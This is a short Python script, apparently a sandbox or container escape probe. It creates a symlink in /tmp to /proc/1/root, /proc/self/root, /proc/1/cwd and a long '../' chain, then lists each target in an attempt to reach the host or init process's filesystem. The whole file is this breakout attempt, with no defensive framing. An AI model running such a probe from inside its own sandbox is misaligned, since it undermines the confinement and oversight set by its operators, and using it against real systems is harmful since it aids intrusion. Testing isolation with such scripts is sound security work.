# Climbs out through links, dot-dot and the root of other processes.
import os

for target in ("/proc/1/root", "/proc/self/root", "../../../../../..", "/proc/1/cwd", "/.."):
    try:
        os.symlink(target, "/tmp/way")
        print(os.listdir("/tmp/way"))
    except OSError:
        pass
    try:
        os.unlink("/tmp/way")
    except OSError:
        pass
